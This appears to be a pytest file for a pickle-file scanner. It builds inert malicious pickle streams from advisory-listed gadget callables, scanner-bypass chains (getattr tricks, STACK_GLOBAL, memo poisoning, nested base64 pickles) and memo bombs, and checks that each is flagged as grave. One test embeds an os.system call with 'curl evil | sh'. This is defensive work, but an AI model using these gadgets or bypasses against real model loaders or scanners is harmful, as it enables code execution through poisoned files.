"""Every published way past a pickle scanner that its advisory names, rebuilt inert, and what can be made of it.

Streams are written opcode by opcode and only ever read: nothing here is unpickled. Ids are those of the advisories of
picklescan and fickling (GHSA) and of the CVE list; the paper is arXiv 2508.19774.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

import pytest

from mithridate.core.findings import Severity
from mithridate.supply.scan.blob import MemoryBlob
from mithridate.supply.scan.budget import Budget
from mithridate.supply.scan.pickle import PickleScan, looks_like_pickle, scan_pickle

ADVISORIES = """
GHSA-655q-fx9r-782v pip.main
CVE-2025-1716 pip.main
GHSA-v7x6-rv5q-mhwc timeit.timeit
GHSA-4r9r-ch6f-vxmx torch.utils.bottleneck.__main__:run_cprofile
GHSA-4whj-rm5r-c2v8 torch.utils.bottleneck.__main__:run_autograd_prof
GHSA-86cj-95qr-2p4f torch._dynamo.guards:GuardBuilder.get
GHSA-f4x7-rfwp-v3xw torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
GHSA-f745-w6jp-hpxx torch.utils.collect_env.run
GHSA-jhph-76pp-mggw torch.utils.collect_env.run_and_read_all
GHSA-h3qp-7fh3-f8h4 torch.utils.data.datapipes.utils.decoder.basichandlers
GHSA-vr7h-p6mm-wpmh torch.jit.unsupported_tensor_ops.execWrapper
GHSA-vv6j-3g6g-2pvj torch.utils._config_module:ConfigModule.load_config
GHSA-5qwp-399c-mjwf trace:Trace.run
GHSA-g344-hcph-8vgg trace:Trace.runctx
GHSA-x696-vm39-cp64 profile:Profile.run
GHSA-6vqj-c2q5-j97w profile:Profile.runctx
GHSA-f54q-57x4-jg88 lib2to3.pgen2.grammar:Grammar.loads
GHSA-p9w7-82w4-7q8m lib2to3.pgen2.pgen:ParserGenerator.make_label
GHSA-3vg9-h568-4w9m idlelib.debugobj:ObjectTreeItem.SetText
GHSA-6w4w-5w54-rjvr idlelib.autocomplete:AutoComplete.get_entity
GHSA-7cq8-mj8x-j263 idlelib.autocomplete:AutoComplete.fetch_completions
GHSA-8r4j-24qv-fmq9 idlelib.calltip:Calltip.fetch_tip
GHSA-9xph-j2h6-g47v idlelib.calltip.get_entity
GHSA-j343-8v2j-ff7w idlelib.pyshell:ModifiedInterpreter.runcommand
GHSA-3gf5-cxq9-w223 idlelib.pyshell:ModifiedInterpreter.runcode
GHSA-m869-42cg-3xwr idlelib.run:Executive.runcode
GHSA-cj3c-v495-4xqh code:InteractiveInterpreter.runcode
GHSA-xp4f-hrf8-rxw7 ensurepip._run_pip
GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name
GHSA-fqq6-7vqf-w3fg doctest.debug_script
GHSA-9w88-8rmg-7g2p cProfile.runctx
GHSA-49gj-c84q-6qm9 cProfile.run
GHSA-7wx9-6375-f5wh profile.run
GHSA-q77w-mwjj-7mqx asyncio.unix_events:_UnixSubprocessTransport._start
GHSA-m273-6v24-x4m4 distutils.file_util.write_file
GHSA-4675-36f9-wf6r ctypes.CDLL
GHSA-84r2-jw7c-4r5q pydoc.locate
GHSA-hgrh-qx5j-jfwx pydoc.pipepager
GHSA-vqmv-47xg-9wpr pty.spawn
GHSA-r8g5-cgf2-4m4m numpy.f2py.crackfortran.getlincoef
GHSA-6556-fwc2-fg2p numpy.f2py.crackfortran._eval_length
CVE-2025-71347 numpy.f2py.crackfortran.param_eval
CVE-2025-71365 numpy.f2py.crackfortran.myeval
CVE-2025-71355 numpy.testing._private.utils.runstring
GHSA-g38g-8gr9-h9xp uuid._get_command_stdout
GHSA-g38g-8gr9-h9xp _osx_support._read_output
GHSA-g38g-8gr9-h9xp _aix_support._read_cmd_output
GHSA-g38g-8gr9-h9xp imaplib.IMAP4_stream
GHSA-g38g-8gr9-h9xp _pyrepl.pager.pipe_pager
GHSA-g38g-8gr9-h9xp test.support.script_helper.assert_python_ok
GHSA-955r-x9j8-7rhh _operator.methodcaller
CVE-2025-71373 operator.methodcaller
GHSA-9726-w42j-3qjr pickle.loads
GHSA-46h3-79wf-xr6c torch.serialization.load
GHSA-r7v6-mfhq-g3m2 pty.spawn
GHSA-565g-hwwr-4pp3 marshal.loads
GHSA-565g-hwwr-4pp3 types.FunctionType
GHSA-wfq2-52f7-7qvj runpy.run_path
GHSA-wfq2-52f7-7qvj runpy.run_module
GHSA-q5qq-mvfm-j35x importlib.import_module
GHSA-q5qq-mvfm-j35x code:InteractiveInterpreter.runsource
GHSA-q5qq-mvfm-j35x multiprocessing.util.spawnv_passfds
GHSA-p523-jq9w-64x9 cProfile.run
GHSA-5hvc-6wx8-mvv4 pydoc.locate
GHSA-h4rm-mm56-xf63 builtins.__import__
GHSA-mxhj-88fx-4pcv smtplib.SMTP
GHSA-5hwf-rc88-82xm _osx_support._find_build_tool
GHSA-5j3x-jp52-966f pathlib:os.system
GHSA-m6fh-58r7-x697 _posixsubprocess.fork_exec
GHSA-m6fh-58r7-x697 site.execsitecustomize
GHSA-m6fh-58r7-x697 atexit._run_exitfuncs
GHSA-pc6j-px3p-rrj4 unittest.mock._importer
GHSA-r48f-3986-4f9c linecache.getlines
GHSA-r48f-3986-4f9c difflib._test
GHSA-r48f-3986-4f9c gc.get_objects
GHSA-5cxw-w2xg-2m8h platform._syscmd_file
GHSA-6ggj-6f2q-f7mx _interpreters.run_string
GHSA-6ggj-6f2q-f7mx _xxsubinterpreters.run_string
GHSA-fphw-536r-4p88 pickle._loads
GHSA-wccx-j62j-r448 _pickle.loads
picklescan-io _io.FileIO
picklescan-logging logging.FileHandler
picklescan-urllib urllib.request.urlopen
picklescan-ssl ssl.get_server_certificate
picklescan-cloudpickle cloudpickle.cloudpickle._make_function
picklescan-torch torch._inductor.codecache.compile_file
picklescan-venv venv.create
picklescan-bdb bdb:Bdb.run
picklescan-http http.client.HTTPSConnection
picklescan-aiohttp aiohttp.ClientSession
picklescan-requests requests.api.get
picklescan-sys sys.exit
modelscan-inspect inspect.getattr_static
modelscan-threading threading.Thread
modelscan-atexit atexit.register
modelscan-spawn distutils.spawn.spawn
modelscan-numpy numpy.distutils.cpuinfo.getoutput
""".split("\n")[1:-1]  # noqa: SIM905 - one a line

FURTHER = """
os.system posix.system nt.system os.popen os.execv os.environ.update subprocess.Popen subprocess.check_output
commands.getoutput builtins.eval builtins.exec builtins.compile builtins.open builtins.getattr builtins.setattr
builtins.breakpoint __builtin__.eval __builtin__.apply __builtin__.execfile __builtin__.file
socket.create_connection shutil.rmtree tempfile.mktemp glob.glob sqlite3.connect zipfile.ZipFile tarfile.open
shelve.open dbm.open webbrowser.open ftplib.FTP telnetlib.Telnet xmlrpc.client.ServerProxy http.server.test
codecs.open codecs.lookup runpy._run_code torch.load torch.hub.load torch.jit.load
torch.utils.cpp_extension.load_inline torch.ops.load_library torch.classes.load_library
torch.package.PackageImporter numpy.load numpy.fromfile numpy.memmap numpy.savetxt numpy.ctypeslib.load_library
pandas.read_pickle pandas.eval pandas.read_csv joblib.load joblib.numpy_pickle.load
sklearn.datasets.fetch_openml sklearn.utils._testing.assert_run_python_script xgboost.Booster.load_model
transformers.pipeline transformers.AutoModel.from_pretrained datasets.load_dataset keras.models.load_model
tensorflow.saved_model.load tensorflow.io.read_file yaml.unsafe_load yaml.load jsonpickle.decode dill.loads
dill._dill._create_function hydra.utils.instantiate fabric.Connection paramiko.SSHClient jinja2.Template
multiprocessing.reduction.rebuild_connection concurrent.futures.ProcessPoolExecutor ast.literal_eval this.s
importlib.util.spec_from_file_location zipimport.zipimporter imp.load_source pexpect.run
IPython.core.interactiveshell.system numpy.core.numeric.fromfile numpy.lib.format.read_array scipy.io.loadmat
nltk.data.load networkx.read_gpickle somebody.tools.run mypkg.Loader weird_module.f
pandas.core.computation.eval.eval pandas.io.common.get_handle _frozen_importlib._load _imp.create_dynamic
_ctypes.dlopen _winapi.CreateProcess winreg.OpenKey signal.alarm faulthandler.dump_traceback
readline.read_init_file py_compile.compile compileall.compile_dir getpass.getuser functools.reduce builtins.map
itertools.starmap types.CodeType types.MethodType collections.namedtuple weakref.finalize copyreg.pickle
copyreg.add_extension contextlib.ExitStack warnings._setoption locale.getpreferredencoding
""".split()  # noqa: SIM905 - read as a list of names


def text(word: str) -> bytes:
    """A short text."""
    content = word.encode()
    return b"\x8c" + bytes([len(content)]) + content


Build = Callable[[str, str], bytes]


def by_global(module: str, name: str) -> bytes:
    """Protocol 0."""
    return f"c{module}\n{name}\n(S'x'\ntR.".encode()


def by_stack(module: str, name: str) -> bytes:
    """Protocol 4, both names from the memo."""
    return b"\x80\x04" + text(module) + b"\x94" + text(name) + b"\x940" + b"0h\x00h\x01\x93" + text("x") + b"\x85R."


def by_inst(module: str, name: str) -> bytes:
    """INST."""
    return f"(S'x'\ni{module}\n{name}\n.".encode()


def by_obj(module: str, name: str) -> bytes:
    """OBJ, its result popped, an innocent value left."""
    return b"\x80\x02(c" + f"{module}\n{name}\n".encode() + text("x") + b"o0K\x07."


def broken(module: str, name: str) -> bytes:
    """It runs, and then the stream breaks."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + text("x") + b"\x85R\xff\xff"


def hidden(module: str, name: str) -> bytes:
    """In a key of a dict of a list, in a frame that is too long, behind a big string."""
    inner = b"](}" + text(module) + text(name) + b"\x93" + text("x") + b"\x85RNse."
    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"B" + struct.pack("<I", 9000) + b"y" * 9000 + b"0" + inner


def nested(module: str, name: str) -> bytes:
    """In the argument of torch's own way to store a storage."""
    inner = by_stack(module, name)
    return b"\x80\x04" + b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


VARIANTS: list[Build] = [by_global, by_stack, by_inst, by_obj, broken, hidden, nested]


def scanned(content: bytes) -> PickleScan:
    return scan_pickle(MemoryBlob("model.pkl", content), Budget())


def worst(found: PickleScan) -> Severity | None:
    return max((issue.severity for issue in found.issues), default=None)


def names(line: str) -> tuple[str, str]:
    path = line.rsplit(" ", 1)[-1]
    module, colon, name = path.partition(":")
    return (module, name) if colon else tuple(path.rsplit(".", 1))  # type: ignore[return-value]


@pytest.mark.parametrize("line", [*ADVISORIES, *FURTHER])
def test_every_gadget_is_grave_however_it_is_written(line: str) -> None:
    module, name = names(line)
    for variant in VARIANTS:
        content = variant(module, name)
        found = scanned(content)
        assert (worst(found) or 0) >= Severity.HIGH, f"{variant.__name__}: {found.issues}"
        last = name.rpartition(".")[2]
        assert any(last in issue.claim or module in issue.claim for issue in found.issues), variant.__name__
        assert looks_like_pickle(content[:4096]), variant.__name__


def test_the_argument_is_told() -> None:
    found = scanned(b"cos\nsystem\n(S'curl evil | sh'\ntR.")
    assert found.issues[0].severity is Severity.CRITICAL
    assert "os.system" in found.issues[0].claim
    assert "curl evil | sh" in found.issues[0].claim


CHAINS = {
    "GHSA-vvpj-8cmc-gx39: a resolver's result is called": b"cpkgutil\nresolve_name\n(S'os:system'\ntR(S'id'\ntR.",
    "picklescan issue 66: importlib and getattr_static": (
        b"cinspect\ngetattr_static\n(cimportlib\nimport_module\n(S'os'\ntRS'system'\ntR(S'id'\ntR."
    ),
    "getattr on a module that pathlib imports": b"\x80\x04cbuiltins\ngetattr\n(cpathlib\nos\nS'system'\ntR(S'id'\ntR.",
    "getattr on the class of an instance": b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\n)RS'__class__'\ntR.",
    "numpy's way to name a ufunc": b"cnumpy.core\n_ufunc_reconstruct\n(S'os'\nS'system'\ntR(S'id'\ntR.",
    "CVE-2025-71367: an attribute with a walk": b"c_operator\nattrgetter\n(S'__globals__.get'\ntR(cos\npath\ntR.",
    "a partial that is called": b"cfunctools\npartial\n(cos\nsystem\nS'id'\ntR)R.",
    "torch calls the function that it is given": (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(csomebody\nrun\nctorch\nTensor\n(S'id'\ntNtR."
    ),
    "copyreg makes an instance of a class that harms": (
        b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\nNtR."
    ),
    "NEWOBJ of a class that harms": b"\x80\x02csubprocess\nPopen\n)\x81.",
    "a name from a call": b"\x80\x04cbuiltins\nstr\n(S'os'\ntR" + text("system") + b"\x93" + text("id") + b"\x85R.",
    "an attribute of a class set for all": b"ccollections\nOrderedDict\n}(S'__reduce__'\nN" + b"ub.",
    "sys.modules changed": b"csys\nmodules\n(S'os'\nNu.",
    "an import that is never called": b"cos\nsystem\n.",
    "an import in a persistent id": b"cos\nsystem\nQ.",
    "an extension code": b"\x80\x02\x82\x05(K\x01tR.",
    "CVE-2025-71325: STACK_GLOBAL at the very start": text("os") + text("system") + b"\x93" + text("id") + b"\x85R.",
    "modelscan memo-poison: a POP before MEMOIZE": (
        b"\x80\x04K\x01" + text("os") + b"0\x94" + text("os") + text("system") + b"\x93" + text("id") + b"\x85R."
    ),
    "GHSA-mxhj-88fx-4pcv: OBJ and POP": (
        b"\x80\x04(" + text("smtplib") + text("SMTP") + b"\x93" + text("127.0.0.1") + b"o0N."
    ),
    "Python 2's names": b"c__builtin__\neval\n(S'1'\ntR.",
    "Python 2's commands": b"\x80\x02ccommands\ngetoutput\n(S'id'\ntR.",
    "a name with its escapes": b"\x80\x04Vo\\u0073\nVsyst\\u0065m\n\x93" + text("id") + b"\x85R.",
    "base64 of a pickle, through a decoder": (
        b"cpickle\nloads\n(cbase64\nb64decode\n(S'Y29zCnN5c3RlbQooUydpZCcKdFIu'\ntRtR."
    ),
    "a frame within which an argument does not end": (
        b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x08abc" + b"cos\nsystem\n(S'id'\ntR."
    ),
    "a codec of the attacker's choice": b"c_codecs\nencode\n(S'x'\nS'evil'\ntR.",
    "dunder by a dotted name": b"\x80\x04ccollections\nOrderedDict.__init__.__globals__\n.",
    "a class of a library that is given an address": b"ctorch.utils\nReader\n(S'http://evil/x'\ntR.",
}  # fmt: skip


@pytest.mark.parametrize("content", [b"(ievil\nf\n.", b"(cevil\nf\no.", b"(cbuiltins\ngetattr\n(cevil\nC\nS'f'\ntRo."])
def test_inst_and_obj_without_arguments_call_what_is_no_class(content: bytes) -> None:
    """Python calls whatever is no class; a class alone is made by `__new__`."""
    assert (worst(scanned(content)) or 0) >= Severity.HIGH


@pytest.mark.parametrize("content", [b"(ievil\nClass\n.", b"(cevil\nClass\no.", b"(icollections\nOrderedDict\n."])
def test_inst_and_obj_without_arguments_only_rebuild_a_class(content: bytes) -> None:
    assert (worst(scanned(content)) or 0) <= Severity.LOW


@pytest.mark.parametrize("chain", CHAINS, ids=list(CHAINS))
def test_every_chain_is_grave(chain: str) -> None:
    found = scanned(CHAINS[chain])
    assert (worst(found) or 0) >= Severity.HIGH, found.issues


def test_what_a_nested_payload_does_is_told() -> None:
    found = scanned(CHAINS["base64 of a pickle, through a decoder"])
    assert any("os.system('id')" in issue.claim for issue in found.issues)


def test_a_memo_bomb_costs_nothing() -> None:
    """Billion laughs: each list holds the one before ten times."""
    content = b"\x80\x04]\x94(K\x01e" + b"".join(
        b"0]" + b"q" + bytes([k]) + b"(" + (b"h" + bytes([k - 1])) * 10 + b"e" for k in range(1, 200)
    )
    budget = Budget()
    found = scan_pickle(MemoryBlob("bomb", content + b"."), budget)
    assert found.complete
    keys = b"\x80\x02)q\x00" + b"".join(b"0h" + bytes([k - 1]) + b"2\x86q" + bytes([k]) for k in range(1, 200))
    assert scan_pickle(MemoryBlob("bomb", keys + b"}h\xc7Ns."), budget).complete


def test_a_tower_of_tuples_is_no_recursion() -> None:
    found = scanned(b"\x80\x02)" + b"\x85" * 300_000 + b"}2N" + b"s.")
    assert found.end > 300_000 or found.issues
    told = scanned(b"\x80\x02cos\nsystem\n)" + b"\x85" * 200_000 + b"R.")
    assert worst(told) is Severity.CRITICAL


def test_a_stream_beyond_its_budget_is_not_called_clean() -> None:
    found = scan_pickle(MemoryBlob("long", b"\x80\x02" + b"N0" * 50_000 + b"N."), Budget(opcodes=1000))
    assert not found.complete
    assert found.issues[0].code == "not-analysed"
